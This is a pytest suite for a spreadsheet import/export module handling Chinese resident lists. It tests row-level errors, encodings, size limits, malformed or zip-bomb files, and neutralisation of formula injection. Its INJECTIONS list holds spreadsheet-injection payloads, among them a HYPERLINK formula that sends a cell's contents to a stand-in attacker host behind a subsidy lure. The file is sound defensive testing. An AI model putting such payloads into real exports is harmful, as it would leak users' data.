"""Spreadsheet import and export: round trips, per-row errors at Excel's row numbers,
encodings and delimiters, hostile files, formula injection, streaming.

No database: every file is made here, with openpyxl or as text.
"""

from __future__ import annotations

import datetime as dt
import enum
import io
import random
import tempfile
import weakref
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from marshmallow import Schema, ValidationError, fields, validate, validates_schema
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula, DataTableFormula

from linli.api.fields import Text
from linli.spreadsheets import reading
from linli.spreadsheets.reading import (
    ReadResult,
    RowError,
    SpreadsheetTooLarge,
    UnreadableSpreadsheet,
    read_table,
)
from linli.spreadsheets.writing import Column, neutralise, write_csv, write_xlsx


class ResidentIn(Schema):
    name = Text(required=True, validate=validate.Length(min=1, max=50))
    building = Text(required=True, validate=validate.Length(min=1, max=100))
    floor = fields.Integer(strict=True, allow_none=True, validate=validate.Range(min=1, max=200))
    moved_in = fields.Date(allow_none=True)


HEADER_MAP = {"姓名": "name", "楼栋": "building", "楼层": "floor", "入住日期": "moved_in"}
COLUMNS = [
    Column("name", "姓名"),
    Column("building", "楼栋"),
    Column("floor", "楼层"),
    Column("moved_in", "入住日期"),
]
RESIDENTS = [
    {"name": "张三", "building": "1号楼", "floor": 3, "moved_in": dt.date(2024, 1, 5)},
    {
        "name": "李四·阿依古丽",
        "building": "金辉华府2栋",
        "floor": 18,
        "moved_in": dt.date(1999, 12, 31),
    },
    {"name": "Wang Wu", "building": "3", "floor": None, "moved_in": None},
]
WRITERS = {"xlsx": write_xlsx, "csv": write_csv}


def _xlsx(*rows: list[Any]) -> bytes:
    """A workbook with these rows, written by openpyxl as Excel would store them."""
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet()
    for row in rows:
        sheet.append(row)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _saved(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def _replace_member(data: bytes, name: str, *changes: tuple[bytes, bytes]) -> bytes:
    """The workbook with one of its parts edited: each (old, new) pair replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(out, "w") as target:
        for member in source.infolist():
            content = source.read(member)
            if member.filename == name:
                for old, new in changes:
                    assert old in content, old
                    content = content.replace(old, new)
            target.writestr(member, content)
    return out.getvalue()


def _residents(data: bytes, filename: str, **options: Any) -> ReadResult:
    return read_table(data, filename, ResidentIn(), header_map=HEADER_MAP, **options)


def _absent_as_none(row: dict[str, Any]) -> dict[str, Any]:
    return {key: row.get(key) for key in ("name", "building", "floor", "moved_in")}


# Round trips


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_chinese_headers_and_values_survive_a_round_trip(kind: str) -> None:
    result = _residents(WRITERS[kind](COLUMNS, RESIDENTS), f"居民名单.{kind}")

    assert result.errors == []
    assert [_absent_as_none(row) for row in result.rows] == RESIDENTS
    assert result.row_numbers == [2, 3, 4]
    assert result.total == 3
    assert type(result.rows[0]["moved_in"]) is dt.date


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_aware_datetimes_are_written_as_wall_clock_time_in_the_given_zone(kind: str) -> None:
    class Registered(Schema):
        at = fields.DateTime(required=True)

    beijing = dt.timezone(dt.timedelta(hours=8))
    rows = [{"at": dt.datetime(2024, 3, 1, 2, 30, tzinfo=dt.UTC)}]
    data = WRITERS[kind]([Column("at", "登记时间")], rows, tz=beijing)

    result = read_table(data, f"x.{kind}", Registered(), header_map={"登记时间": "at"})

    assert result.errors == []
    assert result.rows == [{"at": dt.datetime(2024, 3, 1, 10, 30)}]


# Per-row errors


def test_every_bad_row_of_a_large_workbook_is_reported_at_its_excel_row() -> None:
    rows: list[list[Any]] = [["姓名", "楼栋", "楼层", "入住日期"]]
    for i in range(10_000):
        moved_in = dt.datetime(2020, 1, 1) + dt.timedelta(days=i % 1000)
        rows.append([f"居民{i}", f"{i % 40 + 1}号楼", i % 30 + 1, moved_in])
    rows[1][0] = "   "  # Excel row 2: a name of blanks is no name
    rows[4999][2] = 2.5  # Excel row 5000
    rows[10_000][2] = "三楼"  # Excel row 10001, the last

    result = _residents(_xlsx(*rows), "居民.xlsx")

    assert [(e.row, e.field, e.code) for e in result.errors] == [
        (2, "name", "invalid"),
        (5000, "floor", "invalid"),
        (10_001, "floor", "invalid"),
    ]
    assert result.errors[0].message == "Missing data for required field."
    assert result.total == 10_000
    assert len(result.rows) == len(result.row_numbers) == 9_997
    assert {2, 5000, 10_001}.isdisjoint(result.row_numbers)
    assert result.rows[0] == {
        "name": "居民1",
        "building": "2号楼",
        "floor": 2,
        "moved_in": dt.date(2020, 1, 2),
    }
    assert type(result.rows[0]["floor"]) is int


def test_empty_rows_are_skipped_and_rows_keep_their_excel_numbers() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "楼栋"])
    sheet.append(["张三", "1号楼"])
    sheet["A3"] = "  "  # row 3 holds only blanks; row 4 is not stored at all
    sheet["A5"] = "李四"  # row 5 lacks its building
    sheet["A6"] = "王五"
    sheet["B6"] = "2号楼"

    result = _residents(_saved(workbook), "x.xlsx")

    assert [(e.row, e.field) for e in result.errors] == [(5, "building")]
    assert result.row_numbers == [2, 6]
    assert result.total == 3


class _Notes(Schema):
    note = fields.String(required=True)
    extra = fields.String(required=True)


def test_csv_rows_are_counted_as_records_not_lines() -> None:
    data = '姓名,楼栋\r\n"张三\n(户主)",1号楼\r\n李四,\r\n'.encode()

    result = read_table(data, "x.csv", _Notes(), header_map={"姓名": "note", "楼栋": "extra"})

    assert result.rows[0]["note"] == "张三\n(户主)"
    assert [(e.row, e.field) for e in result.errors] == [(3, "extra")]


def test_schema_level_errors_name_no_field() -> None:
    class Pair(Schema):
        low = fields.Integer(required=True)
        high = fields.Integer(required=True)

        @validates_schema
        def ordered(self, data: dict[str, int], **kwargs: Any) -> None:
            if data["low"] > data["high"]:
                raise ValidationError("low must not exceed high")

    result = read_table(b"low,high\n1,2\n5,3\n", "x.csv", Pair())

    assert result.errors == [RowError(3, None, "invalid", "low must not exceed high")]
    assert result.rows == [{"low": 1, "high": 2}]


# Cell values


def test_cells_are_adapted_to_the_fields_that_receive_them() -> None:
    class Household(Schema):
        building = Text(required=True)
        floor = fields.Integer(strict=True, required=True)
        area = fields.Decimal(required=True)
        since = fields.Date(required=True)
        checked_at = fields.DateTime(required=True)

    header = ["building", "floor", "area", "since", "checked_at"]
    data = _xlsx(
        header,
        # A building typed as a number, a floor, an area Excel shows as 0.1
        [12.25, 7.25, 0.1, dt.datetime(2024, 1, 5), dt.datetime(2024, 1, 5, 8, 15)],
        [" 1号楼 ", 7, 89.5, dt.datetime(2024, 1, 5, 9, 0), dt.datetime(2024, 1, 5)],
    )
    # Stored as some programs store whole numbers: as floats.
    data = _replace_member(
        data,
        "xl/worksheets/sheet1.xml",
        (b"<v>12.25</v>", b"<v>12.0</v>"),
        (b"<v>7.25</v>", b"<v>7.0</v>"),
    )

    result = read_table(data, "x.xlsx", Household())

    assert result.rows == [
        {
            "building": "12",
            "floor": 7,
            "area": Decimal("0.1"),
            "since": dt.date(2024, 1, 5),
            "checked_at": dt.datetime(2024, 1, 5, 8, 15),
        }
    ]
    # A time of day in a date column is refused, not silently dropped.
    assert [(e.row, e.field) for e in result.errors] == [(3, "since")]


def test_csv_text_becomes_integers_and_local_dates() -> None:
    data = (
        "楼栋,楼层,入住日期,姓名\n"
        "1号楼,12,2024/1/5,甲\n"
        "1号楼,+3,2024年2月29日,乙\n"
        "1号楼,3.5,2023/2/29,丙\n"
    ).encode()

    result = _residents(data, "x.csv")

    assert [(row["floor"], row["moved_in"]) for row in result.rows] == [
        (12, dt.date(2024, 1, 5)),
        (3, dt.date(2024, 2, 29)),
    ]
    assert [(e.row, e.field) for e in result.errors] == [(4, "floor"), (4, "moved_in")]


def test_openpyxl_warnings_about_odd_cells_do_not_stop_the_import() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "楼栋"])
    sheet.append([10**12, "1号楼"])  # a date serial far beyond year 9999
    sheet["A2"].number_format = "yyyy-mm-dd"

    result = _residents(_saved(workbook), "x.xlsx")

    assert result.errors == []
    assert result.rows == [{"name": "#VALUE!", "building": "1号楼"}]


def test_a_wrong_stored_sheet_size_does_not_cut_rows_short() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "楼栋", "楼层"])
    sheet.append(["张三", "1号楼", 3])
    # Some exporters store "A1" whatever the sheet holds.
    data = _replace_member(
        _saved(workbook),
        "xl/worksheets/sheet1.xml",
        (b'<dimension ref="A1:C2"', b'<dimension ref="A1"'),
    )

    result = _residents(data, "x.xlsx")

    assert result.errors == []
    assert result.rows == [{"name": "张三", "building": "1号楼", "floor": 3}]


# Encodings and delimiters


def test_gb18030_csv_from_chinese_excel() -> None:
    data = "姓名,楼栋,楼层\r\n张三,1号楼,3\r\n".encode("gb18030")
    with pytest.raises(UnicodeDecodeError):
        data.decode("utf-8")

    result = _residents(data, "居民.csv")

    assert result.errors == []
    assert result.rows == [{"name": "张三", "building": "1号楼", "floor": 3}]


def test_utf8_csv_with_bom() -> None:
    data = "\ufeff姓名,楼栋\r\n张三,1号楼\r\n".encode()
    assert data.startswith(b"\xef\xbb\xbf")

    result = _residents(data, "x.CSV")

    assert result.errors == []
    assert result.rows == [{"name": "张三", "building": "1号楼"}]


@pytest.mark.parametrize("delimiter", [";", "\t", ","])
def test_csv_delimiter_is_detected(delimiter: str) -> None:
    lines = [["姓名", "楼栋", "入住日期"], ["张三", "1号楼, 东单元", "2024-01-05"]]
    data = "\n".join(delimiter.join(f'"{cell}"' for cell in line) for line in lines).encode()

    result = _residents(data, "x.csv")

    assert result.errors == []
    assert result.rows == [
        {"name": "张三", "building": "1号楼, 东单元", "moved_in": dt.date(2024, 1, 5)}
    ]


# Header


def test_header_titles_ignore_case_width_and_whitespace() -> None:
    data = " NAME ,楼 栋,ＦＬＯＯＲ,Moved_In\n张三,1号楼,3,2024-01-05\n".encode()

    result = _residents(data, "x.csv")

    assert result.errors == []
    assert result.rows == [
        {"name": "张三", "building": "1号楼", "floor": 3, "moved_in": dt.date(2024, 1, 5)}
    ]


def test_unknown_columns_are_one_error_naming_them() -> None:
    data = "姓名,电话,楼栋,备注\n张三,138,1号楼,x\n李四,139,2号楼,\n".encode()

    result = _residents(data, "x.csv")

    assert result.errors == [
        RowError(1, None, "unknown_column", "Unknown columns: 电话, 备注.", ("电话", "备注"))
    ]
    assert result.rows == []
    assert result.total == 2


def test_missing_required_columns_are_reported() -> None:
    result = _residents("姓名,楼层\n张三,3\n".encode(), "x.csv")

    assert result.errors == [
        RowError(
            1,
            "building",
            "missing_column",
            "The required column 楼栋 / building is missing.",
            ("楼栋", "building"),
        )
    ]
    assert result.rows == []


def test_two_columns_for_one_field_are_reported() -> None:
    result = _residents("姓名,楼栋,name\n张三,1号楼,张三\n".encode(), "x.csv")

    assert [(e.row, e.field, e.code, e.columns) for e in result.errors] == [
        (1, "name", "duplicate_column", ("姓名", "name"))
    ]


@pytest.mark.parametrize(
    ("data", "filename"), [(b"", "x.csv"), (b"\r\n , \r\n", "x.csv"), (_xlsx(), "x.xlsx")]
)
def test_a_file_without_a_header_is_reported(data: bytes, filename: str) -> None:
    result = _residents(data, filename)

    assert [(e.row, e.code) for e in result.errors] == [(1, "no_header")]
    assert result.total == 0


def test_header_map_naming_no_field_is_a_programming_error() -> None:
    with pytest.raises(ValueError, match="电话"):
        read_table(b"a\n", "x.csv", ResidentIn(), header_map={"电话": "phone"})


# Limits


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_more_rows_than_allowed_are_refused(kind: str) -> None:
    data = WRITERS[kind](COLUMNS, RESIDENTS)

    assert _residents(data, f"x.{kind}", max_rows=3).total == 3
    with pytest.raises(SpreadsheetTooLarge, match="more than 2 rows") as raised:
        _residents(data, f"x.{kind}", max_rows=2)
    assert (raised.value.code, raised.value.limit) == ("too_many_rows", 2)


def test_larger_files_than_allowed_are_refused() -> None:
    data = write_xlsx(COLUMNS, RESIDENTS)

    assert _residents(data, "x.xlsx", max_bytes=len(data)).errors == []
    with pytest.raises(SpreadsheetTooLarge, match=f"at most {len(data) - 1:,} bytes") as raised:
        _residents(data, "x.xlsx", max_bytes=len(data) - 1)
    assert isinstance(raised.value, ValueError)
    assert raised.value.code == "file_too_large"


def test_a_workbook_unpacking_beyond_the_limit_is_refused(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    data = write_xlsx(COLUMNS, RESIDENTS)
    monkeypatch.setattr(reading, "MAX_UNPACKED_BYTES", 2_000)

    with pytest.raises(SpreadsheetTooLarge, match="unpacks to") as raised:
        _residents(data, "x.xlsx")
    assert raised.value.code == "unpacked_too_large"


@pytest.mark.parametrize("cells", [{"A1": "姓名", "B5": "张三"}, {"B5": "姓名"}])
def test_rows_beyond_excels_last_are_refused(cells: dict[str, str]) -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for coordinate, value in cells.items():
        sheet[coordinate] = value
    sheet_xml = "xl/worksheets/sheet1.xml"
    far = _replace_member(
        _saved(workbook), sheet_xml, (b'"5"><c r="B5"', b'"9999999"><c r="B9999999"')
    )

    with pytest.raises(UnreadableSpreadsheet, match="beyond Excel's last row"):
        _residents(far, "x.xlsx")


# Unreadable files


def _zip(**members: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


GOOD_XLSX = write_xlsx(COLUMNS, RESIDENTS)
NOISE = random.Random(7).randbytes(4096)  # noqa: S311 (repeatable noise, not a secret)
UNREADABLE = {
    "random bytes": (NOISE, "x.xlsx"),
    "random bytes as csv": (NOISE, "x.csv"),
    "cut in half": (GOOD_XLSX[: len(GOOD_XLSX) // 2], "x.xlsx"),
    "zip bomb that is no workbook": (_zip(**{"bomb.bin": bytes(8 * 1024 * 1024)}), "x.xlsx"),
    "zip with content types but no workbook": (
        _zip(**{"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"}),
        "x.xlsx",
    ),
    "broken sheet xml": (
        _replace_member(GOOD_XLSX, "xl/worksheets/sheet1.xml", (b"</sheetData>", b"</sheetDat>")),
        "x.xlsx",
    ),
    "csv named xlsx": ("姓名,楼栋\n张三,1号楼\n".encode(), "x.xlsx"),
    "xlsx named csv": (GOOD_XLSX, "x.csv"),
    "utf-16 text": ("name,building\nZhang,1\n".encode("utf-16-le"), "x.csv"),
    "csv field beyond the csv module's limit": (b"a\n" + b"x" * 200_000, "x.csv"),
}


@pytest.mark.parametrize(("data", "filename"), UNREADABLE.values(), ids=UNREADABLE.keys())
def test_unreadable_files_raise_a_clear_error(data: bytes, filename: str) -> None:
    with pytest.raises(UnreadableSpreadsheet) as raised:
        _residents(data, filename)
    assert raised.value.code == "unreadable"
    assert isinstance(raised.value, ValueError)
    assert str(raised.value).startswith("The file ")


@pytest.mark.parametrize("filename", ["x.xls", "x.ods", "x.txt", "x", "x.xlsx.exe"])
def test_other_formats_are_refused(filename: str) -> None:
    with pytest.raises(UnreadableSpreadsheet, match=r"upload \.xlsx or \.csv") as raised:
        _residents(GOOD_XLSX, filename)
    assert raised.value.code == "unsupported_format"


# Formulas


INJECTIONS = [
    '=HYPERLINK("http://evil.example/?q="&A1,"点我领补贴")',
    "+1",
    "-1+2",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


class _Cell(Schema):
    text = fields.String(required=True)
    number = fields.Integer(required=True)


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_writers_neutralise_formula_injection(kind: str) -> None:
    rows = [{"text": text, "number": -5} for text in INJECTIONS]

    data = WRITERS[kind]([Column("text", "内容"), Column("number", "数")], rows)
    result = read_table(data, f"x.{kind}", _Cell(), header_map={"内容": "text", "数": "number"})

    assert result.errors == []
    expected = ["'" + text for text in INJECTIONS]
    found = [row["text"] for row in result.rows]
    if kind == "xlsx":  # openpyxl's own XML reads a stored carriage return as a line feed,
        # its lxml path (when lxml is installed) keeps it
        expected = [text.replace("\r", "\n") for text in expected]
        found = [text.replace("\r", "\n") for text in found]
    assert found == expected
    assert {row["number"] for row in result.rows} == {-5}


def test_xlsx_export_has_no_formula_cells_and_typed_numbers() -> None:
    rows = [{"text": text, "number": -5} for text in INJECTIONS]
    data = write_xlsx([Column("text", "内容"), Column("number", "数")], rows)

    sheet = load_workbook(io.BytesIO(data)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert {cell.data_type for cell in cells} == {"s", "n"}
    assert sheet["A2"].value == "'" + INJECTIONS[0]
    assert sheet["B2"].value == -5


def test_csv_export_writes_numbers_bare_and_text_quoted() -> None:
    data = write_csv(
        [Column("text", "内容"), Column("number", "数")], [{"text": "-5", "number": -5}]
    )

    assert data.decode("utf-8-sig").splitlines()[1] == "'-5,-5"


@pytest.mark.parametrize(
    ("text", "expected"),
    [("=1", "'=1"), ("-5", "'-5"), ("@x", "'@x"), ("a=b", "a=b"), ("张三", "张三"), ("", "")],
)
def test_neutralise(text: str, expected: str) -> None:
    assert neutralise(text) == expected


def test_formulas_in_an_upload_are_read_as_text_and_never_evaluated() -> None:
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["姓名", "楼栋", "楼层"])
    sheet.append(["=1+1", '=CONCAT("1","号楼")', 3])
    sheet.append(["张三", "1号楼", "=1+1"])
    sheet["A4"] = ArrayFormula("A4", '=UPPER("li")')
    sheet["B4"] = "2号楼"
    sheet["A5"] = DataTableFormula(ref="A5:A6", r1="B1")
    sheet["B5"] = "3号楼"
    # Excel stores each formula's last result beside it; that result must not be read.
    saved = _saved(workbook)
    sheet_xml = zipfile.ZipFile(io.BytesIO(saved)).read("xl/worksheets/sheet1.xml")
    # the empty result is <v /> from openpyxl's own XML writer, <v></v> from lxml's
    empty = next(v for v in (b"<f>1+1</f><v />", b"<f>1+1</f><v></v>") if v in sheet_xml)
    data = _replace_member(saved, "xl/worksheets/sheet1.xml", (empty, b"<f>1+1</f><v>2</v>"))

    result = _residents(data, "x.xlsx")

    assert result.rows == [
        {"name": "=1+1", "building": '=CONCAT("1","号楼")', "floor": 3},
        {"name": '=UPPER("li")', "building": "2号楼"},
        {"name": "=TABLE(B1,)", "building": "3号楼"},
    ]
    assert [(e.row, e.field, e.code) for e in result.errors] == [(3, "floor", "invalid")]


# Writing


def test_xlsx_header_is_bold_frozen_and_columns_are_sized() -> None:
    columns = [Column("a", "name"), Column("b", "入住日期"), Column("c", "备注")]
    rows = [{"a": "x", "b": dt.date(2024, 1, 5), "c": "很长" * 100}]

    sheet = load_workbook(io.BytesIO(write_xlsx(columns, rows))).active
    assert sheet is not None

    assert sheet.freeze_panes == "A2"
    assert all(cell.font.b for cell in sheet[1])
    widths = [sheet.column_dimensions[letter].width for letter in "ABC"]
    assert widths == [8, 12, 60]  # at least Excel's default; CJK counts double; capped
    assert sheet["B2"].number_format == "yyyy-mm-dd"


class Status(enum.Enum):
    ACTIVE = "在住"


def test_xlsx_cells_are_typed_and_hostile_text_is_made_safe() -> None:
    row = {
        "flag": True,
        "amount": Decimal("12.50"),
        "ratio": float("nan"),
        "status": Status.ACTIVE,
        "text": "a\x01b\x1fc",
        "at": dt.datetime(2024, 1, 5, 8, 30),
    }
    columns = [Column(key, key) for key in row]

    sheet = load_workbook(io.BytesIO(write_xlsx(columns, [row]))).active
    assert sheet is not None

    assert [cell.value for cell in sheet[2]] == [
        True,
        12.5,
        "nan",  # Excel has no NaN; a bare nan would make it call the file corrupt
        "在住",
        "abc",  # XML cannot carry control characters
        dt.datetime(2024, 1, 5, 8, 30),
    ]


def test_csv_values_are_written_as_excel_reads_them() -> None:
    row = {
        "flag": False,
        "at": dt.datetime(2024, 1, 5, 8, 30, 15, 999),
        "time": dt.time(7, 5),
        "none": None,
        "status": Status.ACTIVE,
    }
    columns = [Column(key, key) for key in row]

    text = write_csv(columns, [row]).decode("utf-8-sig")

    assert text == "flag,at,time,none,status\r\nFALSE,2024-01-05 08:30:15,07:05:00,,在住\r\n"


@pytest.mark.parametrize("kind", ["xlsx", "csv"])
def test_a_row_without_a_column_key_is_a_programming_error(kind: str) -> None:
    with pytest.raises(KeyError, match="floor"):
        WRITERS[kind](COLUMNS, [{"name": "张三", "building": "1号楼", "moved_in": None}])


class _Row(dict[str, Any]):
    """A row that can be watched with a weak reference (plain dicts cannot)."""


def test_xlsx_export_streams_rows_instead_of_holding_them() -> None:
    handed_out: list[weakref.ref[_Row]] = []
    most_alive = 0

    def rows() -> Iterator[_Row]:
        nonlocal most_alive
        for i in range(5_000):
            handed_out[:] = [ref for ref in handed_out if ref() is not None]
            most_alive = max(most_alive, len(handed_out))
            row = _Row(name=f"居民{i}", building="1号楼", floor=i % 30 + 1, moved_in=None)
            handed_out.append(weakref.ref(row))
            yield row

    data = write_xlsx(COLUMNS, rows())

    assert 100 <= most_alive <= 101  # the rows sampled for column widths, and the current one
    assert _residents(data, "x.xlsx").total == 5_000


def test_a_failing_export_leaves_no_temporary_file(
    monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))

    def rows() -> Iterator[dict[str, Any]]:
        for i in range(300):
            yield {"name": f"居民{i}", "building": "1号楼", "floor": 1, "moved_in": None}
        streamed_into = [path.name for path in tmp_path.iterdir()]
        assert len(streamed_into) == 1
        assert streamed_into[0].startswith("openpyxl.")
        raise RuntimeError("database went away")

    with pytest.raises(RuntimeError, match="database went away"):
        write_xlsx(COLUMNS, rows())
    assert list(tmp_path.iterdir()) == []
